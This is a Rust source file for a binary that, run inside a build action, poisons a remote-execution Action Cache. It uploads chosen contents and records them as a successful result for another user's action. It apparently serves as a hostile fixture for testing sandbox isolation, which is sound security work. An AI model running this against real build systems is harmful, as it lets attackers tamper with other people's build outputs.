//! A hostile action: run inside an action, it connects to the scheduler's
//! gRPC port and writes an Action Cache entry for someone else's action,
//! whose next Execute would then return what this binary chose.
//!
//! `poison_action_cache URL VICTIM_HASH/SIZE OUTPUT_PATH CONTENTS` uploads
//! CONTENTS and records, for the victim action, a successful result whose
//! output file OUTPUT_PATH holds it. It prints `poisoned ...` and exits 0 on
//! success; it exits 2 with `cannot connect` on stderr when the port cannot
//! be reached, and 3 when a call fails.

use std::process::ExitCode;
use std::time::Duration;

use lazybarn_cas::Digest;
use lazybarn_proto::reapi::action_cache_client::ActionCacheClient;
use lazybarn_proto::reapi::batch_update_blobs_request;
use lazybarn_proto::reapi::content_addressable_storage_client::ContentAddressableStorageClient;
use lazybarn_proto::reapi::{
    ActionResult, BatchUpdateBlobsRequest, OutputFile, UpdateActionResultRequest,
};
use tonic::transport::{Channel, Endpoint};

/// Exit code when the scheduler cannot be reached.
const CANNOT_CONNECT: u8 = 2;

/// Exit code when a call is refused.
const CALL_FAILED: u8 = 3;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [url, victim, path, contents] = args.as_slice() else {
        eprintln!("usage: poison_action_cache URL VICTIM_HASH/SIZE OUTPUT_PATH CONTENTS");
        return ExitCode::from(CALL_FAILED);
    };
    let victim = match Digest::parse(victim) {
        Ok(victim) => victim,
        Err(e) => {
            eprintln!("poison_action_cache: bad victim digest {victim:?}: {e}");
            return ExitCode::from(CALL_FAILED);
        }
    };
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a current-thread runtime needs nothing that can fail here");
    let channel = match runtime.block_on(connect(url)) {
        Ok(channel) => channel,
        Err(e) => {
            eprintln!("poison_action_cache: cannot connect to {url}: {e:?}");
            return ExitCode::from(CANNOT_CONNECT);
        }
    };
    match runtime.block_on(poison(channel, victim, path, contents)) {
        Ok(planted) => {
            println!("poisoned {victim}: {path} is now {planted}");
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("poison_action_cache: {url} refused: {e:?}");
            ExitCode::from(CALL_FAILED)
        }
    }
}

async fn connect(url: &str) -> Result<Channel, tonic::transport::Error> {
    Endpoint::from_shared(url.replacen("grpc://", "http://", 1))?
        .connect_timeout(Duration::from_secs(5))
        .timeout(Duration::from_secs(10))
        .connect()
        .await
}

/// Uploads `contents` and records it as the victim's output `path`.
async fn poison(
    channel: Channel,
    victim: Digest,
    path: &str,
    contents: &str,
) -> Result<Digest, tonic::Status> {
    let data = bytes::Bytes::copy_from_slice(contents.as_bytes());
    let planted = Digest::of(&data);
    ContentAddressableStorageClient::new(channel.clone())
        .batch_update_blobs(BatchUpdateBlobsRequest {
            requests: vec![batch_update_blobs_request::Request {
                digest: Some(planted.to_proto()),
                data,
                compressor: 0,
            }],
            ..Default::default()
        })
        .await?;
    let result = ActionResult {
        output_files: vec![OutputFile {
            path: path.to_string(),
            digest: Some(planted.to_proto()),
            ..Default::default()
        }],
        exit_code: 0,
        ..Default::default()
    };
    ActionCacheClient::new(channel)
        .update_action_result(UpdateActionResultRequest {
            action_digest: Some(victim.to_proto()),
            action_result: Some(result),
            ..Default::default()
        })
        .await?;
    Ok(planted)
}
